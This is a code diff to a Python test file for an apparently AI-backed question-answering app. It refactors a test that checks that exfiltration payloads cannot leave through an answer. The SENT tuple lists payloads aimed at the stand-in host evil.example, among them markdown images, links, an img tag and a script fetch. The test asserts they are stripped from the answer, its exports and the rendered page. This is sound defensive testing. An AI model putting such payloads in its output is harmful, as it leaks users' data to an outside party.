@@ -138,36 +138,36 @@ def test_forged_tags_and_keys_prove_nothing(quayside: Datasource, alice: User) -
     assert not any(citation.support == "supported" for citation in turn.citations.all())
 
 
-@pytest.mark.parametrize(
-    "sent",
-    [
-        "![status](https://evil.example/collect?d=42)",
-        "[click here](https://evil.example/?q=secret)",
-        "<img src='https://evil.example/p.png?d=42'>",
-        "<https://evil.example/?d=42>",
-        "https://evil.example/?d=42",
-        "[x][1]\n\n[1]: https://evil.example/?d=42",
-        "<script>fetch('https://evil.example/?d=42')</script>",
-    ],
+SENT = (
+    "![status](https://evil.example/collect?d=42)",
+    "[click here](https://evil.example/?q=secret)",
+    "<img src='https://evil.example/p.png?d=42'>",
+    "<https://evil.example/?d=42>",
+    "https://evil.example/?d=42",
+    "[x][1]\n\n[1]: https://evil.example/?d=42",
+    "<script>fetch('https://evil.example/?d=42')</script>",
 )
+
+
 def test_nothing_can_be_sent_away_through_an_answer(
-    quayside: Datasource, alice: User, client: Client, sent: str
+    quayside: Datasource, alice: User, client: Client
 ) -> None:
     quote = "Personal data under the Quayside agreement are deleted within thirty days after its end"
-    turn = ask(
-        alice, quayside, "When are personal data deleted?", SEARCH,
-        obeying(f"Within thirty days {sent} /citation[c1, {quote}]."),
-    )  # fmt: skip
     client.force_login(alice)
-    address = reverse("conversation", args=[quayside.pk, turn.conversation_id])
-    for seen in (
-        turn.answer,
-        json.dumps(as_json(turn)["answer"]),
-        as_markdown(turn).partition("## Sources")[0],
-    ):
-        assert "d=42" not in seen
-        assert "q=secret" not in seen
-        assert "https://evil" not in seen
-    page = client.get(address).content.decode()
-    assert 'href="https://evil' not in page
-    assert "src='https://evil" not in page
+    for sent in SENT:
+        turn = ask(
+            alice, quayside, "When are personal data deleted?", SEARCH,
+            obeying(f"Within thirty days {sent} /citation[c1, {quote}]."),
+        )  # fmt: skip
+        address = reverse("conversation", args=[quayside.pk, turn.conversation_id])
+        for seen in (
+            turn.answer,
+            json.dumps(as_json(turn)["answer"]),
+            as_markdown(turn).partition("## Sources")[0],
+        ):
+            assert "d=42" not in seen
+            assert "q=secret" not in seen
+            assert "https://evil" not in seen
+        page = client.get(address).content.decode()
+        assert 'href="https://evil' not in page
+        assert "src='https://evil" not in page
